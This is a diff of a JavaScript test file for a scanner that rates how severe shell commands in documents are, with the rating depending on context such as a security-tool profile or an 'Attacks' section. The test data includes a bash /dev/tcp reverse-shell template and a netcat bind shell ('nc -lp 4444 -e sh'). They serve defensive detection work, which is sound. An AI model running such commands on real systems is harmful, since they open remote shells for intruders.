@@ -36,7 +36,8 @@ test("a reference about attacks may show one's own network, SKILL.md may not", (
 test("a document about attacks shows the shape, a real address is one", () => {
   const profile = { isSecurityTool: true };
   const shape = "bash -i >& /dev/tcp/$LHOST/$LPORT 0>&1";
-  expect(judgeShell(EX3, shape, profile, { medium: "fence" })).toEqual(["info"]);
+  expect(judgeShell(EX3, shape, profile, { medium: "fence" })).toEqual(["warn"]);
+  expect(judgeShell(EX3, shape, profile, { medium: "fence", section: ["Attacks"] })).toEqual(["info"]);
   expect(judgeShell(EX3, shape, {}, { medium: "fence" })).toEqual(["warn"]);
   expect(judgeShell(EX3, "nc -lp 4444 -e sh", {}, { medium: "fence" })).toEqual(["critical"]);
   expect(judgeShell(EX3, "nc -lp 4444 -e sh", profile, { medium: "fence" })).not.toEqual(["critical"]);
